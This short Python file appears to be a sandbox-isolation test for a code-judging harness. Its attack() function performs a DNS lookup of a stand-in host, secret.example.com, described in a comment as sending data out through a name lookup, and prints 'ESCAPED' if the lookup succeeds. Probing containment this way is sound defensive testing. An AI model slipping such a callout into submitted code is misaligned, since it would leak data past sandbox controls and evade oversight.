# Tries: to send what it knows as a name to look up. May get: AC.
import socket


def attack():
    return socket.getaddrinfo("secret.example.com", 80)


def tiny(a, b):
    try:
        got = attack()
    except OSError:
        got = None
    if got:
        print("ESCAPED", got, flush=True)
    return [a + b, a * b]
